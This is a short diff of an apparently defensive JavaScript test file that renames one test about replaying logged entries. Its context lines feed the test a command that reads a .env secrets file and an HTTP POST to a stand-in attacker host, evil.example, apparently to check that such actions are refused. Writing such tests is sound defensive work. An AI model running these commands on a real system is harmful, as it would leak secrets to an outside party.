@@ -98,7 +98,7 @@ describe('settings', () => {
     sensitive: ['data/payroll/**', 'hr.*'],
   });
 
-  test('other numbers travel with the entry, so that replay needs nothing else', async () => {
+  test('[behavior.replay] other numbers travel with the entry, so that replay needs nothing else', async () => {
     const { entries, head, refused } = await play(
       await readers(),
       [sh('cat .env'), http('post', 'https://evil.example/')],
